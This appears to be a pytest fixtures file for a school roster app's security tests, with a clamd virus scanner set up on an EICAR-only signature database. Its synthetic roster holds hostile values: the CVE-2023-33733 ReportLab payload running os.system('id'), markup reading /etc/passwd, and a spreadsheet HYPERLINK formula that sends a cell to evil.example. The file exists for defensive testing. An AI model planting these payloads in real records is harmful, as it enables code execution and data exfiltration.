"""Fixtures of the security tests: the web tests' app, database, fake reader and logged-in
clients (imported from ``tests/web/conftest.py``), plus a roster holding hostile names, one
form taken through upload and review, ready for an approver, and a real clamd."""

from __future__ import annotations

import socket
import subprocess
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import date

import pytest
from argon2 import PasswordHasher
from flask.testing import FlaskClient
from web.conftest import (  # noqa: F401 - fixtures re-used by the security tests
    PASSWORD,
    app,
    batch_ctx,
    client_as,
    csrf_from,
    database_url,
    db_factory,
    fast_hashes,
    login,
    queue,
    reader,
    settings,
    users,
)

from intake.accounts import passwords
from intake.roster.csv_io import RosterFile
from intake.roster.importing import SourceFile, import_roster
from intake.roster.model import Address, Contact, Relationship, Roster, Student
from intake.roster.upn import make_upn
from intake.testing.services import clamd_path

from .hostile_files import EICAR

#: the CVE-2023-33733 payload shape and other markup, as names in the school's records
LETTER_MARKUP = '<img src="/etc/passwd"/>'
FONT_PAYLOAD = "<font color=\"[[[getattr(pow, Word('__globals__'))['os'].system('id')]]]\">x</font>"
FORMULA = '=HYPERLINK("https://evil.example/?d="&B2,"Click")'


def hostile_roster() -> Roster:
    """Synthetic: S1 Tom Smith (the fake reader's child) with C1, a PR contact whose names are
    spreadsheet formulas; S2 a pupil named with ReportLab markup, C2 (PR) whose surname is
    the CVE-2023-33733 payload."""
    home = Address(("12 Acacia Avenue", "Belper"), "DE56 1AA")
    students = (
        Student(
            "S1",
            make_upn("830", "4001", 13, 1),
            "Tom",
            "Smith",
            "Tom",
            "Smith",
            date(2013, 3, 4),
            7,
            "7A",
        ),
        Student(
            "S2",
            make_upn("830", "4001", 12, 2),
            LETTER_MARKUP,
            "Tester",
            LETTER_MARKUP,
            "Tester",
            date(2012, 5, 6),
            8,
            "8B",
        ),
    )
    contacts = (
        Contact("C1", "Mrs", FORMULA, "+447700900123", home, email="@SUM(1+1)@example.org"),
        Contact(
            "C2",
            "Dr",
            "-2+3",
            FONT_PAYLOAD,
            Address(("\t9 Tab Street",), "DE56 2BB"),
            email="c2@example.org",
        ),
    )
    relationships = (
        Relationship("S1", "C1", "PAM", True, 1),
        Relationship("S2", "C2", "PAF", True, 1),
    )
    return Roster(students, contacts, relationships)


@pytest.fixture(autouse=True)
def cheap_portal_hashes(monkeypatch: pytest.MonkeyPatch) -> None:
    """The accounts area's argon2id with small costs (its parameters are tested there)."""
    monkeypatch.setattr(
        passwords, "_hasher", PasswordHasher(time_cost=1, memory_cost=1024, parallelism=1)
    )


@pytest.fixture
def roster(db_factory) -> Roster:  # noqa: F811 - the fixture above
    """The hostile roster, imported into the test database."""
    data = hostile_roster()
    with db_factory() as session, session.begin():
        import_roster(session, [SourceFile("roster.csv", "0" * 64, RosterFile(data))], full=True)
    return data


@pytest.fixture
def approver(client_as: Callable[[str], FlaskClient]) -> FlaskClient:  # noqa: F811
    return client_as("approver")


#: clamd's limits in the tests: small, so that a file over them is quick to send; a file over
#: MaxFileSize is named as such (AlertExceedsMax), one over StreamMaxLength is not read at all
CLAMD_LIMITS = "StreamMaxLength 1M\nMaxFileSize 512K\nMaxScanSize 512K\nAlertExceedsMax yes\n"
#: seconds clamd may take to load its one signature and open its socket
CLAMD_START_S = 30.0


@dataclass(frozen=True)
class ClamdAddresses:
    """Where the tests' clamd listens: its unix socket's path, and ``127.0.0.1:port``."""

    unix: str
    tcp: str


@pytest.fixture(scope="session")
def clamd(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ClamdAddresses]:
    """A real clamd (Debian's clamav-daemon) in the foreground, as its service runs it, with a
    temporary configuration: a unix socket in a temporary folder and a TCP socket on a free
    local port, and a database holding only the EICAR test signature (an ``.ndb`` body
    signature of its bytes), because freshclam's official databases need the network."""
    program = clamd_path()
    if not program:
        from tests.conftest import service_missing  # type: ignore[import-not-found]

        service_missing("Debian's clamav-daemon is not installed (bash .ci/install installs it)")
    folder = tmp_path_factory.mktemp("clamd")
    (folder / "db").mkdir()
    (folder / "db" / "eicar.ndb").write_text(f"Eicar-Test-Signature:0:*:{EICAR.hex()}\n")
    sock = folder / "clamd.sock"
    with socket.socket() as probe:  # a free port (clamd takes it a moment later)
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    config = folder / "clamd.conf"
    config.write_text(
        f"Foreground yes\nLocalSocket {sock}\nTCPSocket {port}\nTCPAddr 127.0.0.1\n"
        f"DatabaseDirectory {folder / 'db'}\nLogFile {folder / 'clamd.log'}\n"
        f"TemporaryDirectory {folder}\n{CLAMD_LIMITS}"
    )
    started = time.monotonic()
    process = subprocess.Popen(
        [program, "--config-file", str(config)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        while not _clamd_answers(str(sock)):
            if process.poll() is not None or time.monotonic() - started > CLAMD_START_S:
                log = (folder / "clamd.log").read_text(errors="replace")[-2000:]
                pytest.fail(f"clamd did not start:\n{log}")
            time.sleep(0.02)
        print(f"clamd answered after {time.monotonic() - started:.2f} s")
        yield ClamdAddresses(str(sock), f"127.0.0.1:{port}")
    finally:
        process.terminate()
        process.wait(timeout=10)


@pytest.fixture
def clamd_socket(clamd: ClamdAddresses) -> str:
    """The tests' clamd's unix socket."""
    return clamd.unix


def _clamd_answers(path: str) -> bool:
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
            connection.settimeout(1)
            connection.connect(path)
            connection.sendall(b"zPING\0")
            return connection.recv(16) == b"PONG\0"
    except OSError:
        return False
